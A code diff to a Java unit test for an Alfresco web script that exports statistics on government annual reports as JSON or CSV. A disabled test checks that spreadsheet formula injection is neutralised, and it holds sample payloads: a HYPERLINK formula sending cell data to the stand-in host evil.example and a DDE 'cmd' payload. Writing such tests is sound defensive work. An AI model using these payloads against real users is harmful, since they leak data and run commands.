@@ -21,6 +21,7 @@ import org.alfresco.service.cmr.repository.NodeService;
 import org.alfresco.service.cmr.repository.StoreRef;
 import org.alfresco.service.namespace.QName;
 import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Disabled;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 import org.mockito.Mock;
@@ -30,11 +31,15 @@ import org.mockito.quality.Strictness;
 import org.springframework.extensions.webscripts.WebScriptException;
 
 import io.github.zwgk.annualreport.engine.model.Summary;
-import io.github.zwgk.annualreport.repo.analysis.ReportFilter;
+import io.github.zwgk.annualreport.engine.store.ReportFilter;
+import io.github.zwgk.annualreport.engine.store.StoredResult;
 import io.github.zwgk.annualreport.repo.analysis.ReportSearch;
-import io.github.zwgk.annualreport.repo.analysis.StoredResultJson;
 import io.github.zwgk.annualreport.repo.model.AnnualReportModel;
 
+/**
+ * GET /annual-report/statistics over the reports the search finds (with the caller's permissions): the engine's
+ * {@code ReportStatistics} on their stored properties, as JSON or CSV, and honest about truncation (issue 13.4).
+ */
 @ExtendWith(MockitoExtension.class)
 @MockitoSettings(strictness = Strictness.LENIENT)
 class StatisticsGetTest
@@ -55,7 +60,8 @@ class StatisticsGetTest
         webScript.setReportSearch(reportSearch);
         webScript.setNodeService(nodeService);
         webScript.setTopFindings(2);
-        when(reportSearch.find(new ReportFilter(2023, null, null, null), 10_001)).thenReturn(List.of(valid, invalid, pending));
+        when(reportSearch.find(new ReportFilter(2023, null, null, null), 10_000))
+                .thenReturn(new ReportSearch.Found(List.of(valid, invalid, pending), false));
         when(nodeService.getProperties(valid)).thenReturn(report("石泉县人民政府2023年政府信息公开工作年度报告.docx", "石泉县人民政府",
                 "VALID", 12, 1.5, List.of()));
         when(nodeService.getProperties(invalid)).thenReturn(report("息县关店乡, 2023.docx", "息县关店乡人民政府", "INVALID", 5, null,
@@ -86,7 +92,7 @@ class StatisticsGetTest
         webScript.execute(ws.req, ws.res);
 
         verify(ws.res).setContentType("application/json");
-        JsonNode json = StoredResultJson.readTree(new String(ws.bytes(), StandardCharsets.UTF_8));
+        JsonNode json = StoredResult.readTree(new String(ws.bytes(), StandardCharsets.UTF_8));
         assertThat(json.path("total").asInt()).isEqualTo(3);
         assertThat(json.path("filter").path("year").asInt()).isEqualTo(2023);
         assertThat(json.path("countsByStatus").path("VALID").asInt()).isEqualTo(1);
@@ -147,17 +153,95 @@ class StatisticsGetTest
     }
 
     @Test
-    void moreReportsThanTheLimitAreTruncated() throws Exception
+    void aSearchThatFoundMoreThanTheLimitIsReportedTruncated() throws Exception
     {
         webScript.setMaxReports(2);
-        when(reportSearch.find(new ReportFilter(2023, null, null, null), 3)).thenReturn(List.of(valid, invalid, pending));
+        when(reportSearch.find(new ReportFilter(2023, null, null, null), 2))
+                .thenReturn(new ReportSearch.Found(List.of(valid, invalid), true));
         WebScriptMocks ws = new WebScriptMocks("json", Map.of(), Map.of("year", "2023"));
 
         webScript.execute(ws.req, ws.res);
 
-        JsonNode json = StoredResultJson.readTree(new String(ws.bytes(), StandardCharsets.UTF_8));
+        JsonNode json = StoredResult.readTree(new String(ws.bytes(), StandardCharsets.UTF_8));
         assertThat(json.path("truncated").asBoolean()).isTrue();
+        assertThat(json.path("maxReports").asInt()).isEqualTo(2);
         assertThat(json.path("total").asInt()).isEqualTo(2);
-        verify(reportSearch).find(new ReportFilter(2023, null, null, null), 3);
+    }
+
+    @Test
+    void aCompleteSearchIsNotReportedTruncated() throws Exception
+    {
+        WebScriptMocks ws = new WebScriptMocks("json", Map.of(), Map.of("year", "2023"));
+
+        webScript.execute(ws.req, ws.res);
+
+        JsonNode json = StoredResult.readTree(new String(ws.bytes(), StandardCharsets.UTF_8));
+        assertThat(json.path("truncated").asBoolean()).isFalse();
+        assertThat(json.path("total").asInt()).isEqualTo(3);
+    }
+
+    @Test
+    @Disabled("Needs the engine's ResultCsv.quote to neutralise = + - @ TAB CR cells (issue 13.5, another helper's "
+            + "branch): enable once that is on main")
+    void csvCellsThatASpreadsheetWouldRunAsAFormulaAreNeutralised() throws Exception
+    {
+        NodeRef forged = new NodeRef(StoreRef.STORE_REF_WORKSPACE_SPACESSTORE, "forged");
+        when(reportSearch.find(new ReportFilter(2023, null, null, null), 10_000))
+                .thenReturn(new ReportSearch.Found(List.of(valid, forged), false));
+        Map<QName, Serializable> p = report("=HYPERLINK(\"http://evil.example/?\"&A1,\"年报\").docx", "@SUM(1+1)", "INVALID",
+                -3, null, List.of("+cmd|' /C calc'!A0", "-2+3"));
+        p.put(AnnualReportModel.PROP_STATUS_REASON, "\t=1+1");
+        when(nodeService.getProperties(forged)).thenReturn(p);
+        WebScriptMocks ws = new WebScriptMocks("csv", Map.of(), Map.of("year", "2023"));
+
+        webScript.execute(ws.req, ws.res);
+
+        String[] lines = new String(ws.bytes(), StandardCharsets.UTF_8).split("\r\n");
+        List<String> row = cells(lines[2]);
+        for (String cell : row)
+        {
+            assertThat(cell).as(row.toString()).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
+                    .doesNotStartWith("\t").doesNotStartWith("\r");
+            if (cell.startsWith("-"))
+            {
+                // a negative number stays a number
+                assertThat(cell).matches("-\\d+(\\.\\d+)?");
+            }
+        }
+        assertThat(row).anySatisfy(c -> assertThat(c).contains("HYPERLINK")).anySatisfy(c -> assertThat(c).contains("SUM(1+1)"))
+                .contains("-3");
+        assertThat(lines[3]).startsWith(",合计,");
+    }
+
+    /** The cells of one RFC 4180 record. */
+    private static List<String> cells(String line)
+    {
+        List<String> cells = new ArrayList<>();
+        StringBuilder cell = new StringBuilder();
+        boolean quoted = false;
+        for (int i = 0; i < line.length(); i++)
+        {
+            char c = line.charAt(i);
+            if (quoted && c == '"' && i + 1 < line.length() && line.charAt(i + 1) == '"')
+            {
+                cell.append('"');
+                i++;
+            }
+            else if (c == '"')
+            {
+                quoted = !quoted;
+            }
+            else if (c == ',' && !quoted)
+            {
+                cells.add(cell.toString());
+                cell.setLength(0);
+            }
+            else
+            {
+                cell.append(c);
+            }
+        }
+        cells.add(cell.toString());
+        return cells;
     }
 }
